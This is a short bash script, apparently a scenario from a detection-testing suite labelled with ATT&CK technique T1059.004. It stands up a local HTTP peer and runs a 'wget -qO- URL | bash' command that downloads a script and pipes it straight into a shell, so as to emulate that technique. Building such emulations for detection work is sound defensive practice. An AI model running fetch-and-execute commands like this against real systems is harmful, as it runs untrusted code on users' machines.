#!/usr/bin/env bash
# Downloaded content piped into a shell: `wget -qO- URL | bash`.
. "$(dirname "$0")/../lib.sh"
scn_begin pipe-wget-bash T1059.004
scn_require wget
scn_http_peer
scn_payload_script "$SCN_WORK/srv/setup"
SCN_OUT="$SCN_WORK/out"
wget -qO- -T 10 "$SCN_URL/setup" | bash >"$SCN_OUT"
scn_shell_finish
